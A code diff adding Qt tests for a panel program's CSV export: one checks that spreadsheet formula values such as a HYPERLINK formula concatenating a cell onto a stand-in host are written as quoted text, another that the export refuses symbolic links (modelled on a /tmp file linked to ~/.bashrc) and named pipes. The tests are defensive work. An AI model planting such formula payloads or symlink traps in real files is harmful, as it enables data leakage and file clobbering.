@@ -2,6 +2,7 @@
 // the span (from included, to not), raw rows where the file keeps them and "1min" rows (the
 // minute's means) where only the folded ones are left, oldest first also after the clock was set
 // back; and `valtrona-panel --export-csv`, with no display, while another program writes the file.
+#include "history/event_log.h"
 #include "history/history_database.h"
 #include "history/sample_export.h"
 #include "history/sample_recorder.h"
@@ -12,6 +13,8 @@
 #include <QProcess>
 #include <QTextStream>
 #include <QtTest>
+
+#include <sys/stat.h>
 
 using namespace history;
 
@@ -104,6 +107,9 @@ private slots:
     void commandLine_data();
     void commandLine();
     void commandLineWithoutHistory();
+    void formulaCells();
+    void commandLineRefusesOddFiles_data();
+    void commandLineRefusesOddFiles();
 };
 
 void TestHistoryExport::rows()
@@ -283,6 +289,87 @@ void TestHistoryExport::commandLineWithoutHistory()
     QVERIFY(panel.waitForFinished(30000));
     QCOMPARE(panel.exitCode(), 2);
     QVERIFY(panel.readAllStandardError().contains("is not a time in ISO 8601"));
+}
+
+// A text from the wire that a spreadsheet would take for a formula is written as text, with a quote
+// before it; numbers stay numbers, also a negative one.
+void TestHistoryExport::formulaCells()
+{
+    QTemporaryDir dir;
+    const QString file = dir.filePath(QStringLiteral("formula.sqlite"));
+    {
+        SampleRecorder recorder(file);
+        Sample s = full(at("2026-06-01T12:00:00Z"), 12.5);
+        s.values[PsuTemp] = -3;
+        s.firmware = QStringLiteral("=HYPERLINK(\"http://x.example/\"&B2)");
+        s.uptime = QStringLiteral("@SUM(1)");
+        s.alarmCode = QStringLiteral("+1");
+        recorder.add(s);
+        QVERIFY(recorder.sync());
+    }
+    const QStringList lines = exportLines(file);
+    QCOMPARE(lines.size(), 2);
+    const QString row = lines[1];
+    QVERIFY2(row.endsWith(QStringLiteral(",'+1,'@SUM(1),\"'=HYPERLINK(\"\"http://x.example/\"\"&B2)\",raw")),
+        qPrintable(row));
+    QCOMPARE(row.section(u',', 4, 4), QStringLiteral("-3"));
+
+    // And the event log's detail.
+    HistoryDatabase db(file);
+    EventLog log(db);
+    QVERIFY(log.append(QStringLiteral("settings downloaded"), QStringLiteral("-2+3")));
+    QBuffer buffer;
+    buffer.open(QIODevice::WriteOnly);
+    QVERIFY(log.writeCsv(buffer));
+    QVERIFY2(buffer.data().endsWith(",settings downloaded,'-2+3\n"), buffer.data().constData());
+}
+
+void TestHistoryExport::commandLineRefusesOddFiles_data()
+{
+    QTest::addColumn<bool>("link");
+    QTest::newRow("a symbolic link to the operator's file") << true;
+    QTest::newRow("a named pipe") << false;
+}
+
+// Another user's /tmp/h.csv -> ~/.bashrc must not overwrite the operator's file.
+void TestHistoryExport::commandLineRefusesOddFiles()
+{
+    QFETCH(bool, link);
+    QTemporaryDir dir;
+    const QString target = dir.filePath(QStringLiteral("bashrc"));
+    const QString out = dir.filePath(QStringLiteral("h.csv"));
+    {
+        QFile f(target);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write("export PATH\n");
+    }
+    if (link)
+        QVERIFY(QFile::link(target, out));
+    else
+        QCOMPARE(::mkfifo(QFile::encodeName(out).constData(), 0600), 0);
+    QProcess panel;
+    panel.start(QStringLiteral(VALTRONA_PANEL_PATH), { "--export-csv", out });
+    QVERIFY(panel.waitForFinished(30000));
+    QCOMPARE(panel.exitCode(), 1);
+    const QByteArray error = panel.readAllStandardError();
+    QVERIFY2(error.contains(link ? "is a symbolic link; nothing was written" : "is not a regular file"),
+        error.constData());
+    QFile f(target);
+    QVERIFY(f.open(QIODevice::ReadOnly));
+    QCOMPARE(f.readAll(), QByteArray("export PATH\n"));
+    QCOMPARE(QFileInfo(out).isSymLink(), link);
+    QCOMPARE(
+        QDir(dir.path()).entryList(QDir::Files | QDir::Hidden | QDir::System).size(), 2); // no temporary left
+
+    // A regular file is replaced by a new one (a rename), with the export.
+    QVERIFY(QFile::remove(out));
+    QVERIFY(QFile::copy(target, out));
+    panel.start(QStringLiteral(VALTRONA_PANEL_PATH), { "--export-csv", out });
+    QVERIFY(panel.waitForFinished(30000));
+    QCOMPARE(panel.exitCode(), 0);
+    QFile written(out);
+    QVERIFY(written.open(QIODevice::ReadOnly));
+    QVERIFY(written.readAll().startsWith(kHeader));
 }
 
 QTEST_GUILESS_MAIN(TestHistoryExport)
